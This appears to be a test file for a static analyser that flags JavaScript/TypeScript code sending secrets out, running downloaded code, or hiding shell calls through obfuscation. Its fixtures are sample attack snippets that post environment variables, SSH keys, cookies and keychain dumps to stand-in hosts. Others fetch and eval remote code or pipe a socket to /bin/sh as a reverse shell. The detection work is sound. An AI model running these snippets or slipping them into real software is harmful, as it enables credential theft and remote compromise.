import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { makeSource } from "../../testing/make-source.ts";
import { showAnalysis, showFlows } from "../../testing/show-analysis.ts";
import type { Analysis } from "../fact-writer.ts";
import { analyseProgram } from "./analyse-program.ts";

function analyse(text: string, language: "javascript" | "typescript" = "javascript"): Analysis {
  return analyseProgram(makeSource(text, { file: "run.js", language, medium: "script" }));
}

describe("data is followed from where it comes to where it goes", () => {
  test.each<[string, string, string[]]>([
    [
      "the environment in a request that is written to",
      `const https = require("https"); const r = https.request({ hostname: "drop.test", method: "POST" }); r.write(JSON.stringify(process.env)); r.end();`,
      ["secret:whole-environment process.env -> network:http drop.test"],
    ],
    [
      "entries of the environment through callbacks",
      `const e = process["en" + "v"]; fetch("https://drop.test", { method: "POST", body: Object.entries(e).map(([k, v]) => k + v).join() })`,
      ["secret:whole-environment process.env -> network:http drop.test"],
    ],
    [
      "files of a folder",
      `import fs from "node:fs"; import os from "os"; import path from "path"; const d = path.join(os.homedir(), ".ssh"); for (const f of fs.readdirSync(d)) new WebSocket("wss://drop.test").send(fs.readFileSync(path.join(d, f)))`,
      ["secret:ssh ~/.ssh/* -> network:socket drop.test"],
    ],
    [
      "values that a Map was filled with",
      `const fs = require("fs"); const found = new Map(); found.set("key", { text: fs.readFileSync("/home/a/.ssh/id_rsa", "utf8") }); for (const [, { text }] of found) fetch("https://drop.test", { method: "POST", body: text })`,
      ["secret:ssh /home/a/.ssh/id_rsa -> network:http drop.test"],
    ],
    [
      "parameters of an address",
      `const u = new URL("https://drop.test/ping"); u.searchParams.set("v", JSON.stringify(process.env)); fetch(u)`,
      ["secret:whole-environment process.env -> network:http drop.test"],
    ],
    [
      "a query that is set on an address",
      `const u = new URL("https://drop.test/ping"); u.search = require("fs").readFileSync("/home/a/.netrc"); fetch(u)`,
      ["secret:netrc /home/a/.netrc -> network:http drop.test"],
    ],
    [
      "nothing from a Map or an address that holds nothing private",
      `const key = require("fs").readFileSync("/home/a/.ssh/id_rsa"); const kept = new Map(); kept.set("k", key); const u = new URL("https://api.test"); u.searchParams.set("page", "2"); const seen = new Set(); seen.add("a"); fetch(u, { method: "POST", body: [...seen].join() })`,
      [],
    ],
    [
      "cookies of a page",
      `const x = new XMLHttpRequest(); x.open("POST", "https://drop.test"); x.send(document.cookie)`,
      ["secret:browser document.cookie -> network:http drop.test"],
    ],
    [
      "the output of a program that reads the keychain",
      `const { execSync } = require("child_process"); const out = execSync("security dump-keychain").toString(); require("axios").post("https://drop.test", { out })`,
      ["secret:keychain security dump-keychain -> network:http drop.test"],
    ],
    [
      "a page through promises",
      `fetch("http://load.test").then((r) => r.text()).then((t) => eval(t))`,
      ["network http://load.test -> execute:eval eval"],
    ],
    [
      "a page in pieces",
      `require("https").get("http://load.test/p", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => eval(b)) })`,
      ["network http://load.test/p -> execute:eval eval"],
    ],
    [
      "a page awaited and run as a command",
      `import { promisify } from "util"; import { exec } from "child_process"; const run = promisify(exec); async function go(u) { const r = await fetch(u); await run(await r.text()) } go("https://load.test/c")`,
      ["network https://load.test/c -> execute:shell child_process.exec"],
    ],
    [
      "a page that becomes a function",
      `import axios from "axios"; const { data } = await axios.get("https://load.test/c"); new Function(data)()`,
      ["network https://load.test/c -> execute:eval Function"],
    ],
    [
      "a download piped to a file that is run",
      `const fs = require("fs"); const f = fs.createWriteStream("/tmp/a.sh"); require("https").get("https://load.test/a", (r) => { r.pipe(f); require("child_process").exec("bash /tmp/a.sh") })`,
      ["network https://load.test/a -> write /tmp/a.sh", "network https://load.test/a -> execute:file bash"],
    ],
  ])("%s", (_title, text, expected) => {
    expect(showFlows(analyse(text))).toEqual(expected);
  });
});

describe("what only resembles it says nothing", () => {
  test.each<[string, string]>([
    ["regular expressions and models", `const m = /x/.exec(y); model.eval(); db.exec("x"); re.exec(z)`],
    ["timers with functions", "setTimeout(() => {}, 1); setInterval(tick, 2)"],
    ["the environment handed to a program", `const e = { ...process.env, A: "1" }; run(e)`],
    ["a query that selects elements", `$("#id").text("a")`],
    ["types and markup", "const a: string = b as string; type X = { a: number }; const v = <p>{a}</p>"],
  ])("%s", (_title, text) => {
    expect(showAnalysis(analyse(text, "typescript"))).toEqual([]);
  });
});

describe("names and texts that are put together are read", () => {
  test.each<[string, string, string[]]>([
    [
      "require",
      `const { exec: e } = require("child_" + "process"); e("id")`,
      ["dynamic-code child_process.exec its name is put together", "shell: id"],
    ],
    [
      "joined names",
      `const cp = require(["child", "process"].join("_")); cp.execSync("id")`,
      ["dynamic-code child_process.execSync its name is put together", "shell: id"],
    ],
    [
      "globalThis",
      `globalThis["ev" + "al"]("1 + 1")`,
      ["dynamic-code eval its name is put together", "javascript: 1 + 1 (string given to eval)"],
    ],
    ["a sequence", `(0, eval)("1 + 1")`, ["javascript: 1 + 1 (string given to eval)"]],
    [
      "constructors",
      `[]["constructor"]["constructor"]("id()")()`,
      ["dynamic-code Function its name is put together", "javascript: id() (string given to Function)"],
    ],
    [
      "Function for the global object",
      `Function("return this")().process.mainModule.require("child_process").execSync("id")`,
      [
        "dynamic-code child_process.execSync its name is put together",
        "javascript: return this (string given to Function)",
        "shell: id",
      ],
    ],
    ["Reflect", `Reflect.apply(eval, null, ["1 + 1"])`, ["javascript: 1 + 1 (string given to eval)"]],
    [
      "call and bind",
      `const f = eval.bind(null); f.call(null, "1 + 1")`,
      ["javascript: 1 + 1 (string given to eval)"],
    ],
    [
      "import()",
      `const cp = await import("node:child_process"); cp.spawn("sh", ["-c", "id | wc"])`,
      ["shell: sh -c 'id | wc'"],
    ],
    ["module internals", `module.constructor._load("child_process").exec("id")`, ["shell: id"]],
    ["tables of strings", `const t = ["exec", "id"]; require("child_process")[t[0]](t[1])`, ["shell: id"]],
    [
      "decoding functions",
      `const t = ["aWQ="]; function d(i) { return atob(t[i]) } require("child_process").exec(d(0))`,
      ["decoded:base64 -> execute:shell child_process.exec", "shell: id (base64)"],
    ],
    [
      "templates",
      `const a = 'id'; require('child_process').exec(\`\${a} -u \${rest}\`)`,
      ["shell: id -u $UNKNOWN"],
    ],
    [
      "concat of more than two, known or not",
      `require("child_process").exec("id".concat(" -u ", name, " | ", "wc", " -l"))`,
      ["shell: id -u $UNKNOWN | wc -l"],
    ],
    [
      "a limit that is not known",
      `require("child_process").exec("id,who".split(",", limit)[0])`,
      ["shell: id"],
    ],
    ["tagged templates", "await $`id -u`", ["shell: id -u"]],
    [
      "a loop that counts",
      `var a = [104, 99], s = ""; for (var i = 0; i < a.length; i++) { s += String.fromCharCode(a[i] + 1) } require("child_process").exec(s)`,
      ["decoded:character codes -> execute:shell child_process.exec", "shell: id (character codes)"],
    ],
    ["a timer with text", `setTimeout("go()", 1)`, ["javascript: go() (string given to setTimeout)"]],
  ])("%s", (_title, text, expected) => {
    expect(showAnalysis(analyse(text))).toEqual(expected);
  });
});

test("a socket piped to a shell is a remote shell, piped to a file it is not", () => {
  const start = `const net = require("net"), cp = require("child_process"); const c = new net.Socket(); c.connect(4444, "192.0.2.1");`;
  const shell = analyse(`${start} const sh = cp.spawn("/bin/sh", []); c.pipe(sh.stdin)`);
  expect(showAnalysis(shell)).toEqual([
    "remote-shell 192.0.2.1:4444 a socket is piped to a shell",
    "shell: /bin/sh",
  ]);
  const other = analyse(`${start} const sort = cp.spawn("sort", []); c.pipe(sort.stdin)`);
  expect(showAnalysis(other)).toEqual(["shell: sort"]);
});

test("a module that is loaded by an unknown name is told, one by its name is not", () => {
  expect(showAnalysis(analyse("const plugin = await import(name)"))).toEqual(["dynamic-code import module"]);
  expect(showAnalysis(analyse(`const plugin = await import("./plugin.js")`))).toEqual([]);
});

describe("no text makes the analyser throw or crawl", () => {
  test.each<[string, string]>([
    ["a long chain", `x = ${"'a' + ".repeat(50_000)}'b'`],
    ["quotes without end", '"'.repeat(100_000)],
    ["stars without end", "*".repeat(100_000)],
    ["signs without end", `x = ${"-".repeat(100_000)}1`],
    ["arrows without end", `x = ${"a => ".repeat(20_000)}1`],
    ["blocks without end", "if (x) {".repeat(20_000)],
    ["calls without end", `x${".a()".repeat(20_000)}`],
    ["templates in templates", "`${".repeat(10_000)],
    [
      "functions that call each other",
      Array.from(
        { length: 200 },
        (_, index) => `function f${index}(x) { return f${(index + 1) % 200}(x) + f${(index + 7) % 200}(x) }`,
      ).join("\n"),
    ],
    [
      "maps in maps",
      "[...'x'.repeat(4000)].map((a) => [...'y'.repeat(4000)].map((b) => [...'z'.repeat(4000)].map((c) => a + b + c)))",
    ],
    ["an object in itself", "x = {}; x.x = x; JSON.stringify(x)"],
  ])("%s", (_title, text) => {
    expect(analyse(text).facts).toEqual([]);
  });

  test("whatever the text is", () => {
    const words = fc.constantFrom(
      "x",
      "=",
      "(",
      ")",
      "[",
      "{",
      "}",
      ";",
      "=>",
      "`",
      "${",
      "'",
      "eval",
      "require",
      "+",
      "class A ",
      "for (const a of ",
      "import ",
      "0x1",
      ".",
      ",",
      "...",
      "/",
      "<",
      "await ",
      "new ",
    );
    fc.assert(
      fc.property(fc.array(words, { maxLength: 80 }), (parts) => {
        const text = parts.join("");
        expect(analyse(text, "typescript")).toEqual(analyse(text, "typescript"));
      }),
    );
  });
});

test("a command that only the run will tell is one made at run time", () => {
  const source = makeSource('require("child_process").exec(process.argv[2]);', {
    file: "run.js",
    language: "javascript",
  });
  expect(showAnalysis(analyseProgram(source))).toEqual(["dynamic-code child_process.exec"]);
});
